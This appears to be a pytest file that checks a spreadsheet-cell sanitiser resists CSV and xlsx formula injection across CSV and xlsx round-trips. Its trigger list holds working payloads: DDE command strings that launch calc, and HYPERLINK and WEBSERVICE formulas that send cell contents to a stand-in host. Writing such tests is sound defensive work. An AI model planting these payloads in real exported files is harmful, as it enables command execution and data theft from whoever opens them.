"""H7: a spreadsheet cell never computes: 30 triggers in CSV and xlsx, and any text at all."""

import csv
import io
import re

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ascertain.safety.sheets import is_formula, safe_cell

TRIGGERS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/"&A1,"see")',
    '=WEBSERVICE("http://x.example/"&A1)',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +1+1",
    '"=1+1',
    "'=1+1",
    '""=1+1',
    ";=1+1",
    ",=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "﹦1+1",
    "＋1+1",
    "−1+1",
    "＠SUM(1)",
    "%0A=1+1",
    "|calc",
    "\x00=1+1",
    "\u2068=1+1",
    "`=1+1",
    "“=1+1",
]
# What a spreadsheet does before it looks for a formula: drop spaces, quotes and invisibles, fold full-width forms.
_BEFORE = re.compile("^[\\s\"'`“”‘’,;\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\u00a0\x00]*")
_FULL_WIDTH = str.maketrans("＝﹦＋﹢－﹣−＠﹫％", "==++---@@%")


def computes(cell: object) -> bool:
    """Return whether some spreadsheet program would take the text of a cell for a formula."""
    if not isinstance(cell, str) or cell.startswith("'"):
        return False
    bare = _BEFORE.sub("", cell).translate(_FULL_WIDTH)
    return bare[:1] in tuple("=+-@|%")


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_no_cell_of_a_csv_file_computes(trigger: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([safe_cell(trigger), "between", safe_cell(f"{trigger}x")])
    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert not any(computes(cell) for cell in row)


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_no_cell_of_an_xlsx_file_computes(trigger: str) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([safe_cell(trigger), safe_cell(trigger)])
    out = io.BytesIO()
    book.save(out)
    again = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert again is not None
    assert all(cell.data_type == "s" and not computes(cell.value) for cell in again[1])


@given(st.text(st.characters(), max_size=40))
def test_no_text_computes(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str) and not computes(cell)
    openpyxl.Workbook().create_sheet().append([cell])


@pytest.mark.parametrize(
    "text", ["Two killed", "٣ قتلى", "27 km", "a=b", "(-3)", "x@y.org", "", "دمشق - حلب", "1. = 2"]
)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text and not is_formula(text)


@pytest.mark.parametrize("value", [None, True, 0, -3, 2.5])
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_a_text_longer_than_a_cell_is_cut_visibly() -> None:
    cell = safe_cell("a" * 40_000)
    assert isinstance(cell, str) and len(cell) == 32_767 and cell.endswith("…")


def test_control_raw_values_compute() -> None:
    """Control: the same triggers, written as they are."""
    assert sum(computes(trigger) for trigger in TRIGGERS) >= 30
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(TRIGGERS[:4])
    assert all(cell.data_type == "f" for cell in sheet[1])
